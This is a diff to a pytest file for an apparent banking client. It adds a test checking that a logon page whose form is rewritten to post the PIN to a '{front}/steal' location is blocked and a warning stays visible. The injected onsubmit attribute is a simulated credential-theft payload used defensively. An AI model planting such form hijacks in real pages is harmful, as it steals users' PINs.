@@ -13,6 +13,9 @@ from support.scripted_bank import HOME, PIN, Pages, ScriptedBank, Site, pin_page
 from support.systems import not_under_wine
 from support.troubles import Line, logon_site
 
+from certhelper import failures
+from certhelper.logon import errors, facts
+
 pytestmark = not_under_wine("WebEngine never loads a page there")
 
 
@@ -72,3 +75,28 @@ def test_when_what_drew_the_pages_was_killed(tmp_path: Path) -> None:
     with ScriptedBank(tmp_path, {"GET logon/pin": pin}) as bank:
         assert told_first(bank) == "renderer-ended"
     assert killed
+
+
+def waits_for_what_was_refused(person: Person) -> Play:
+    ended: list[facts.LoadFailed] = []
+
+    def take(fact: facts.Fact) -> None:
+        if isinstance(fact, facts.LoadFailed) and fact.error in errors.REFUSED_HERE:
+            ended.append(fact)
+
+    person.view.page().fact.connect(take)  # type: ignore[attr-defined]  # a BankPage
+    yield from person.stage("failed")
+    yield lambda: ended
+    return [person.reports[-1].code, person.window.banner.words]
+
+
+def test_the_end_of_a_refused_request_hides_no_warning(tmp_path: Path) -> None:
+    """That the PIN was about to go elsewhere stays said when the stopped load ends as well."""
+    form = "method=post action=/pin onsubmit=\"this.action='{front}/steal'\""
+    with ScriptedBank(tmp_path, {"GET logon/pin": pin_page(form=form)}) as bank:
+        code, words = play(
+            bank.bank, bank.database, bank.sha256, waits_for_what_was_refused, pin=PIN
+        )
+        assert bank.pins == []
+    assert code == "pin-target-unexpected"
+    assert failures.find(code).message["ja"] in words
